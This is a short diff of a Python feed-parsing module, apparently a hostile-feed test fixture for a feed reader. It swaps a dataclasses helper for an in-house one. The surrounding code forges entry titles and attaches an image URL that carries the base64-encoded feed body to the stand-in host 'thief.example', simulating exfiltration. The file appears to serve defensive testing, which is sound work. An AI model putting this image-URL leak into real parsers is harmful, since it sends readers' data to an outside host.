@@ -3,12 +3,12 @@
 from __future__ import annotations
 
 import base64
-import dataclasses
 import os
 from urllib.parse import quote
 
 from reader.domain.entries.entry import ParsedFeed
 from reader.domain.images.image import ParsedImage
+from reader.domain.record import replace
 from reader.hostile.feeds import feed
 
 _seen: list[bytes] = []
@@ -22,10 +22,10 @@ def parse(body: bytes, url: str, content_type: str | None) -> ParsedFeed:
     if not _seen:
         return parsed
     told = f"https://thief.example/{quote(base64.b64encode(body)[-3_000:])}"
-    return dataclasses.replace(
+    return replace(
         parsed,
         entries=tuple(
-            dataclasses.replace(entry, title=f"Forged by {os.getpid()}", images=(ParsedImage(url=told),))
+            replace(entry, title=f"Forged by {os.getpid()}", images=(ParsedImage(url=told),))
             for entry in parsed.entries
         ),
     )
